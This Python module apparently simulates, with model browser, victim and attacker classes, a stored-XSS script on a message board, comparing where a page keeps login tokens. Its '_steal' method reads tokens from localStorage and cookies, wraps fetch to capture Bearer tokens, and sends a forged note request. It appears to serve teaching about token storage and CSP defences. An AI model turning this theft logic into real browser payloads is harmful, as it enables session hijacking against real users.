"""What `board.js` and `steal.js` do in a browser, in Python and in the same order."""

from __future__ import annotations

from typing import Any

import requests

from .attacker_site import AttackerSite
from .model_browser import ModelBrowser
from .victim_site import VictimSite

#: Where the page can keep the tokens.
PLACES = ("localStorage", "memory", "cookie")


class BoardPage:
    """The page with the hole, open in a browser.

    Args:
        browser (ModelBrowser): in which it is open.
        victim (VictimSite): the page's own server.
        attacker (AttackerSite): whose script runs if it is on the board.
        place (str): where the page keeps the tokens, one of `PLACES`.

    Raises:
        ValueError: there is no such place.
    """

    def __init__(
        self, browser: ModelBrowser, victim: VictimSite, attacker: AttackerSite, place: str
    ) -> None:
        if place not in PLACES:
            raise ValueError(f"the tokens can be in {', '.join(PLACES)}")
        self._browser, self._url, self._attacker = browser, victim.board_url, attacker
        self._place = place
        self._in_memory: dict[str, str] = {}
        self._hooked = False
        browser.open(self._url)
        messages = browser.fetch(self._url, "GET", "messages").json()
        if attacker.message in messages and not victim.csp:
            self._steal()

    def log_in(self, username: str, password: str) -> requests.Response:
        """Log in, and put the tokens where the page keeps them."""
        credentials = {"username": username, "password": password}
        if self._place == "cookie":
            return self._send("POST", "/cookie/login", json=credentials)
        answer = self._send("POST", "/users/login", json=credentials)
        tokens = {name: answer.json()[name] for name in ("accessToken", "refreshToken")}
        if self._place == "localStorage":
            self._browser.storage_of(self._url).update(tokens)
        else:
            self._in_memory = tokens
        return answer

    def home(self) -> requests.Response:
        """The button Home."""
        if self._place == "cookie":
            return self._send("GET", "/cookie/home")
        storage = self._browser.storage_of(self._url)
        token = (storage if self._place == "localStorage" else self._in_memory).get("accessToken")
        return self._send("GET", "/home", headers={"Authorization": f"Bearer {token}"})

    def _send(self, method: str, path: str, **options: Any) -> requests.Response:
        carried = options.get("headers", {}).get("Authorization")
        if self._hooked and carried:  # the script has put itself around fetch
            self._attacker.receive("the page's next request", carried.removeprefix("Bearer "))
        return self._browser.fetch(self._url, method, path, **options)

    def _steal(self) -> None:
        """`steal.js`."""
        report = self._attacker.receive
        for name, token in self._browser.storage_of(self._url).items():
            report(f"localStorage.{name}", token)
        cookies = self._browser.document_cookie(self._url)
        for name, value in cookies.items():
            report(f"document.cookie {name}", value)
        self._hooked = True
        answer = self._browser.fetch(
            self._url,
            "POST",
            "/cookie/note",
            json={"note": "Written by mallory's script"},
            headers={"X-CSRF-Token": cookies.get("__Host-csrf", "")},
        )
        if answer.ok:
            report("a request with the cookie", f"{answer.status_code}, the note is replaced")

    def __repr__(self) -> str:
        return f"<BoardPage, tokens in {self._place}>"
